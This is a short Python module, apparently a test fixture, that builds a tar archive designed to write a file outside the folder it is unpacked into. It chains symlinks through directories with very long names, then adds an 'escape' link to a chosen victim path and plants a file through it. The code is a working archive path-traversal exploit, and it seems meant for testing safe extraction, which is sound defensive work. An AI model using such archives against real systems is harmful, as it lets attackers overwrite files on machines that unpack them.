"""Archives that try to lead whoever unpacks them out of the folder."""

import gzip
import io
import tarfile
from pathlib import Path, PurePosixPath

_LONG = "d" * 247
_STEPS = "abcdefghijklmnop"


def out_of_reach(victim: Path, *, top: str = "repo-abc/", planted: str = "owned.txt") -> bytes:
    """Links through folders of names so long that the system cannot say where they end, then a file through them into `victim`."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT) as tar:
        inside = PurePosixPath(top)
        for step in _STEPS:
            _add(tar, str(inside / _LONG), tarfile.DIRTYPE)
            _add(tar, str(inside / step), tarfile.SYMTYPE, _LONG)
            inside = inside / _LONG
        through = "/".join(_STEPS) + "/" + "l" * 254
        _add(tar, top + through, tarfile.SYMTYPE, "../" * len(_STEPS))
        _add(tar, top + "escape", tarfile.SYMTYPE, f"{through}/../{'../' * 12}{str(victim).lstrip('/')}")
        if planted:
            _add(tar, f"{top}escape/{planted}", tarfile.REGTYPE, data=b"written outside\n")
    return gzip.compress(file.getvalue())


def _add(tar: tarfile.TarFile, name: str, kind: bytes, target: str = "", data: bytes = b"") -> None:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.mode, member.size = kind, target, 0o755, len(data)
    tar.addfile(member, io.BytesIO(data))
